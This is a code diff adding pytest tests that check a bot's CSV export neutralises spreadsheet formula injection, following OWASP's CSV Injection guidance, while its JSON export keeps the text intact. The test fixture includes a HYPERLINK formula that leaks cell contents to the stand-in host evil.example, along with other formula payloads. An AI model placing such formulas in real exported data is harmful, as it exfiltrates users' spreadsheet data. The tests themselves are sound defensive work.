@@ -7,7 +7,9 @@ import io
 import json
 from datetime import UTC, datetime, timedelta
 
-from bot.services.export import COLUMNS, write_csv, write_json
+import pytest
+
+from bot.services.export import COLUMNS, csv_cell, write_csv, write_json
 from bot.store import EXPORT_KINDS
 
 AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
@@ -95,3 +97,61 @@ def test_deleted_reply_text_is_never_exported(store):
     out = io.StringIO()
     write_json(store, ("reply",), None, out)
     assert out.getvalue() == ""
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): text starting with
+# =, +, -, @, tab, carriage return or line feed gets a leading ', in CSV only.
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", "-2+3",
+            "\t=1+1", "\r=1+1", "\n=1+1", "-2"]
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    *[(text, "'" + text) for text in FORMULAS],
+    ("Went to the gemba = learned", "Went to the gemba = learned"),  # only the first character
+    ("'=already quoted", "'=already quoted"),
+    ("", ""),
+    (None, ""),
+    (-2, -2),  # a number from the database stays a number a spreadsheet can add up
+    (3.5, 3.5),
+    (True, True),
+])
+def test_csv_cell_neutralises_formulas(value, cell):
+    assert csv_cell(value) == cell
+
+
+def test_csv_export_neutralises_formulas_and_json_keeps_the_text(run_cli, tmp_path):
+    from bot.store import Store
+
+    store = Store.open(tmp_path / "cli.db")
+    post = seed(store)
+    for n, text in enumerate(FORMULAS):
+        store.record_reply(channel="C1", thread_ts="1763888400.000100", ts=f"1763888600.{n:06}",
+                           user="U3", text=text, at=AT + timedelta(hours=n), post_id=post)
+    store.record_reflection(user="U3", channel="C1", text="=1+1", choice="take",
+                            behavior="go-to-gemba", shared=True, at=AT + timedelta(days=4))
+    store.close()
+
+    store = Store.open(tmp_path / "cli.db")
+    store.record_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888700.000001",
+                       user="U4", text="take it\r=1+1", at=AT, post_id=post)
+    store.close()
+
+    result = run_cli("export", "--format", "csv", "--kind", "reply")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))
+    assert [row["text"] for row in rows if row["user"] == "U3"] == ["'" + t for t in FORMULAS]
+    # a carriage return inside text is quoted, so no row can begin after it (RFC 4180)
+    assert [row["text"] for row in rows if row["user"] == "U4"] == ["take it\r=1+1"]
+    assert b'"take it\r=1+1"' in result.stdout_bytes
+    for row in csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
+
+    result = run_cli("export", "--format", "csv", "--output", str(tmp_path / "out"))
+    assert result.exit_code == 0
+    with (tmp_path / "out" / "reflections.csv").open(newline="") as handle:
+        assert [row["text"] for row in csv.DictReader(handle)][-1] == "'=1+1"
+
+    result = run_cli("export", "--format", "json", "--kind", "reply")
+    texts = [row["text"] for row in map(json.loads, result.output.splitlines())
+             if row["user"] == "U3"]
+    assert texts == FORMULAS
